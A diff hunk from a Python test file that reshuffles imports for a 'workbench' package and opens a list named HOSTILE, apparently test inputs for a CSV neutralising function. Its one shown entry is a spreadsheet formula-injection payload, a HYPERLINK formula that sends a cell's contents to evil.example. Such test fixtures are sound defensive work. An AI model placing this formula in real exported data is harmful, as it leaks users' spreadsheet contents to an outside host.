@@ -9,10 +9,11 @@ import polars as pl
 import pytest
 
 from tests.conftest import configure
-from workbench.export import export_source, source_folder
-from workbench.reports import questionnaire_report, write_report
-from workbench.study_server import StudyServer, demo_tables
-from workbench.tables_csv import csv_bytes, neutralise_text
+from workbench.decoded import source_folder
+from workbench.export import export_source
+from workbench.reports import questionnaire_report
+from workbench.simulators.study_server import StudyServer, demo_tables
+from workbench.writers import csv_bytes, neutralise_text, write_report
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
